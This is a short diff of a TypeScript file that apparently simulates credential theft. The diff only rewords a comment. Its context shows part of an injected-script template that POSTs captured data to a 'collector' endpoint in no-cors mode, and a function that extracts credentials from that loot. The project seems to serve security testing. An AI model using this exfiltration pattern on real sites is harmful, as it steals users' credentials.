@@ -83,7 +83,7 @@ const captured = `
   };
   await genuine(given.collector, { method: 'POST', mode: 'no-cors', body: JSON.stringify(taken) });`;
 
-/** Reads loot as a thief does who knows the application. */
+/** Reads what the script captured, as attackers do who know the application. */
 export function artefactsIn(taken: Facts, { credentials }: Protocol): Artefact[] {
   return Object.entries(credentials).flatMap(([name, { role, from, in: place }]): Artefact[] => {
     const as = (values: Readonly<Record<string, string>>): Credential => ({ [name]: { role, values } });
